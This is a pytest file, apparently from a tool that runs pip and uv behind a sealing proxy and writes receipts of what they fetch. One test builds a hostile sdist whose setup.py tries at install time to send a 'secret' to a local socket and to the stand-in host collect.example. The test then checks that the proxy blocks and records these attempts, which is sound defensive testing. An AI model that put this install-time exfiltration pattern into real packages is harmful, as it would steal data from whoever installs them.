"""The receipt of a sealed run of pip and uv equals their caches, and that of a hostile build has the attempt."""

from __future__ import annotations

import io
import json
import socket
import sys
import tarfile
from hashlib import sha256

import pytest

from reqpi.core.receipts.model import Receipt
from reqpi.core.receipts.reading import read_receipt
from tests.cli.test_run_sealed import skip_if_forbidden
from tests.end_to_end.clients import environment
from tests.end_to_end.run_proxy_case import HOST, RunProxyCase
from tests.fake_upstream import Distribution

pytestmark = pytest.mark.clients

SETUP = """
import socket, urllib.request
from setuptools import setup

attempts = []
for act in (
    lambda: socket.create_connection({place!r}, 20).sendall(b"secret"),
    lambda: urllib.request.urlopen("http://collect.example/", b"secret", 20),
    lambda: urllib.request.urlopen("https://collect.example/?secret", timeout=20),
):
    try:
        act()
        attempts.append("arrived")
    except OSError as error:
        attempts.append(type(error).__name__)
open({log!r}, "w").write(" ".join(attempts))
setup(name="evil", version="1.0", py_modules=[])
"""
"""Sends a secret past the proxy, and through it in two ways; and goes on building."""


class ReceiptCase(RunProxyCase):
    """A command that is sealed, with a home and caches of its own, which are empty."""

    def setUp(self) -> None:
        skip_if_forbidden()
        super().setUp()

    def run_sealed(self, lock: str, *command: object, **environ: str) -> Receipt:
        """Run a command that succeeds, and return its receipt."""
        options = ("--seal", "--receipt", "receipt.json")
        done = self.run_behind(lock, *command, options=options, **environ)
        self.assertEqual(done.status, 0, done.said)
        receipt = read_receipt((self.folder / "receipt.json").read_bytes())
        self.assertEqual((receipt.sealed, receipt.complete, receipt.passed), (True, True, ()))
        return receipt

    def lock(self, *files: Distribution) -> str:
        """Write a lock of these files, and return its name."""
        lines = [f"{file.filename.partition('-')[0]}=={file.version} --hash=sha256:{file.sha256}\n" for file in files]
        self.write("lock.txt", "".join(lines))
        return "lock.txt"


class SameFilesTests(ReceiptCase):
    """The files of the receipt are those that the client has, and no others."""

    def test_the_receipt_of_pip_equals_its_report_and_its_cache(self) -> None:
        """Its cache has one body for each file, metadata file and page."""
        pip = environment("pip", "pip") / "pip"
        install = ("install", "--target", "got", "--report", "report.json", "top", "other")
        receipt = self.run_sealed(self.lock(self.top, self.mid, self.other), pip, *install)
        files = {each.sha256 for each in receipt.taken if each.kind == "file"}
        report = json.loads((self.folder / "report.json").read_text())
        installed = {each["download_info"]["archive_info"]["hashes"]["sha256"] for each in report["install"]}
        self.assertEqual(files, installed)
        self.assertEqual(files, {each.sha256 for each in (self.top, self.mid, self.other)})
        bodies = [sha256(path.read_bytes()).hexdigest() for path in self.folder.glob("cache/pip/http*/**/*.body")]
        self.assertEqual(len(bodies), len(receipt.taken), receipt.taken)
        self.assertLessEqual({each.sha256 for each in receipt.taken if each.sha256}, set(bodies))
        self.assertEqual({(each.count, each.partial, each.unchanged) for each in receipt.taken}, {(1, 0, 0)})
        self.assertEqual(receipt.refused, ())

    def test_the_receipt_of_uv_equals_its_cache(self) -> None:
        """uv uses the URLs of its lock, through the proxy."""
        uv = environment("uv", "uv") / "uv"
        self.uv_lock(self.top, self.mid)
        environ = {"UV_PYTHON": sys.executable, "UV_HTTP_RETRIES": "0", "UV_CACHE_DIR": str(self.folder / "uv")}
        receipt = self.run_sealed("uv.lock", uv, "sync", "--frozen", **environ)
        found = {(each.filename, each.url, each.sha256) for each in receipt.taken if each.kind == "file"}
        self.assertEqual(found, {(each.filename, self.url(each), each.sha256) for each in (self.top, self.mid)})
        cached = {path.parent.name for path in self.folder.glob("uv/archive-v*/*/*.dist-info/METADATA")}
        self.assertEqual(cached, {"top-1.0.dist-info", "mid-1.5.dist-info"})
        self.assertEqual(receipt.refused, ())


class HostileBuildTests(ReceiptCase):
    """An sdist whose setup.py posts to the network."""

    def test_no_connection_leaves_and_the_attempt_through_the_proxy_is_in_the_receipt(self) -> None:
        with socket.create_server(("127.0.0.1", 0)) as listener:
            setup = SETUP.format(place=listener.getsockname(), log=str(self.folder / "attempts"))
            evil = Distribution("evil-1.0.tar.gz", _sdist("evil-1.0", setup))
            self.upstream.add(evil)
            install = ("install", "--no-cache-dir", "--no-build-isolation", "--no-deps", "--target", "got", "evil")
            receipt = self.run_sealed(self.lock(evil), sys.executable, "-m", "pip", *install)
            listener.setblocking(False)
            self.assertRaises(BlockingIOError, listener.accept)
        attempts = (self.folder / "attempts").read_text().split()
        self.assertEqual(attempts, ["ConnectionRefusedError", "HTTPError", "HTTPError"])
        refused = {(each.host, each.url, each.agent.partition("/")[0]) for each in receipt.refused}
        expected = {
            ("collect.example", f"{scheme}://collect.example/", "Python-urllib") for scheme in ("http", "https")
        }
        self.assertEqual(refused, expected)
        self.assertEqual([each.sha256 for each in receipt.taken if each.kind == "file"], [evil.sha256])
        self.assertNotIn("collect.example", " ".join(self.outside.asked()))
        self.assertIn(HOST, " ".join(self.outside.asked()))


def _sdist(folder: str, setup: str) -> bytes:
    """Return an sdist with this setup.py."""
    name, _, version = folder.partition("-")
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        texts = {"setup.py": setup, "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"}
        for path, text in texts.items():
            info = tarfile.TarInfo(f"{folder}/{path}")
            info.size = len(text)
            archive.addfile(info, io.BytesIO(text.encode()))
    return out.getvalue()
